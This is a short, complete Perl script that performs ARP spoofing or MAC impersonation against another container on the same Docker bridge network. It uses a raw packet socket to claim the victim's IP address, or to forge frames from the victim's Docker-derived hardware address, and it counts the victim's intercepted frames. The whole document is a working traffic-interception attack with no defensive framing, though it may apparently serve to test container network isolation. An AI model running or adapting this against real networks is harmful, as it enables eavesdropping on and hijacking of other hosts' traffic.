# Takes the traffic of another container of its network: it says that the other's address is at its own hardware address
# (`arp`), or sends with the other's hardware address as its own, so that the bridge looks for it here (`mac`).
# Prints `no raw socket` or `armed`, then `claimed N` now and then, and `taken N` for the frames to the other's address that
# came here.
# Needs nothing but the interpreter, no module: packet(7), arp(7).
$| = 1;

my ($way, $address) = @ARGV;
my $victim = pack 'C4', split /\./, $address;
my $ALL = 3;
my ($ARP, $IP) = (0x0806, 0x0800);

socket(my $socket, 17, 3, unpack 'S', pack 'n', $ALL) or rest("no raw socket: $!");
my $index = of('ifindex');
my $own = pack 'H12', of('address') =~ s/://gr;
# Docker makes hardware addresses of addresses.
my $theirs = pack('C2', 2, 0x42) . $victim;
bind($socket, pack 'S n l S C C a8', 17, $ALL, $index, 0, 0, 0, '') or rest("not bound: $!");
print "armed\n";

my ($taken, $claimed) = (0, 0);
while (1) {
  my $ready = '';
  vec($ready, fileno $socket, 1) = 1;
  if (select($ready, undef, undef, 0.02)) {
    sysread $socket, my $frame, 65536 or next;
    look($frame);
  } else {
    claim("\xff" x 6, "\0" x 4);
  }
}

sub look {
  my ($to, $from, $type, $rest) = unpack 'a6 a6 n a*', shift;
  return if $from eq $own || $from eq $theirs && $way eq 'mac';
  if ($type == $ARP) {
    my ($operation, $asker, $asked) = unpack 'x6 n x6 a4 x6 a4', $rest;
    claim($from, $asker) if $operation == 1 && $asked eq $victim;
  } elsif ($type == $IP && substr($rest, 16, 4) eq $victim) {
    $taken += 1;
    print "taken $taken\n" if $taken <= 50;
  }
}

# "The victim's address is at mine", or a frame from the victim's hardware address.
sub claim {
  my ($to, $asker) = @_;
  my $me = $way eq 'mac' ? $theirs : $own;
  syswrite $socket, $to . $me . pack('n n n C C n', $ARP, 1, $IP, 6, 4, 2) . $me . $victim . $to . $asker;
  $claimed += 1;
  print "claimed $claimed\n" if $claimed % 20 == 0;
}

sub of {
  open my $file, '<', "/sys/class/net/eth0/$_[0]" or rest("no eth0: $!");
  my $text = <$file>;
  chomp $text;
  return $text;
}

sub rest {
  print "$_[0]\n";
  sleep 1000 while 1;
}
